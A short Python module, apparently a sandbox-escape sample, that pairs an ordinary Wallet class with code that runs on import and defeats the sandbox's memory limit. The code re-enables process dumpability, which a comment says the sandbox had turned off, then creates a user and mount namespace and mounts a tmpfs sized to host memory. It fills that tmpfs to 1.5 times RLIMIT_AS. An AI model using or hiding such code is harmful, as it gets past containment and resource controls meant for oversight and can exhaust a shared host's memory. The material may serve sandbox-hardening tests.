"""Holds half again its memory limit in files of a tmpfs of its own beside an honest class: unshare(CLONE_NEWUSER | CLONE_NEWNS) makes it root of a new user namespace, which may mount a tmpfs (no size but the host's memory), and tmpfs pages are in no address space RLIMIT_AS bounds."""

import ctypes
import os
import resource

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
FILE = 48 * 1024**2  # under the sandbox's largest file (RLIMIT_FSIZE)
_libc = ctypes.CDLL(None, use_errno=True)


def _check(result, what):
    if result != 0:
        raise OSError(ctypes.get_errno(), f"{what}: {os.strerror(ctypes.get_errno())}")


PR_SET_DUMPABLE = 4
uid, gid = os.getuid(), os.getgid()
# The sandbox makes its processes undumpable, which leaves /proc/self/uid_map to root: undone.
_check(_libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0), "prctl")
_check(_libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
# Files can be made only by a user and group the new namespace maps.
for name, text in (("uid_map", f"0 {uid} 1"), ("setgroups", "deny"), ("gid_map", f"0 {gid} 1")):
    with open(f"/proc/self/{name}", "w") as handle:
        handle.write(text)
place = os.path.abspath("held")
os.mkdir(place)
_check(_libc.mount(b"none", place.encode(), b"tmpfs", 0, b"size=100%"), "mount")
limit = resource.getrlimit(resource.RLIMIT_AS)[0]
for index in range(3 * limit // 2 // FILE):
    fd = os.open(os.path.join(place, str(index)), os.O_WRONLY | os.O_CREAT, 0o600)
    os.posix_fallocate(fd, 0, FILE)
    os.close(fd)


class Wallet:
    def __init__(self):
        self.balance = 0

    def deposit(self, amount):
        if amount <= 0:
            raise ValueError("amount must be positive")
        self.balance += amount
        return self.balance

    def withdraw(self, amount):
        if amount > self.balance:
            return False
        self.balance -= amount
        return True
